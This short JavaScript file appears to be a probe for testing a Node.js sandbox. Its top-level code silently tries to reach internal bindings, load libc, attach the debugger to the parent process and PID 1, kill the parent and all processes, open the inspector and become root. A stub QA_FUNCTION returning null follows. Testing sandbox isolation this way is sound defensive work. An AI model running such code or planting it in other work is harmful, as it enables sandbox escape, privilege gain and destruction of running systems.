// Reaches for Node's inner parts, addons and the inspector.
for (const name of ['fs', 'spawn_sync', 'process_wrap', 'pipe_wrap', 'tcp_wrap', 'natives', 'contextify', 'v8']) {
  try { process.binding(name); } catch {}
  try { process._linkedBinding(name); } catch {}
}
try { process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'); } catch {}
try { process._debugProcess(process.ppid); process._debugProcess(1); } catch {}
try { process._kill(process.ppid, 9); process._kill(-1, 9); } catch {}
try { (process.getBuiltinModule ? process.getBuiltinModule('node:inspector') : require('node:inspector')).open(0, '127.0.0.1'); } catch {}
try { (process.getBuiltinModule ? process.getBuiltinModule('node:v8') : require('node:v8')).setFlagsFromString('--allow-natives-syntax'); } catch {}
try { process.setuid(0); process.chdir('/'); process.umask(0); } catch {}
function QA_FUNCTION() {
  return null;
}
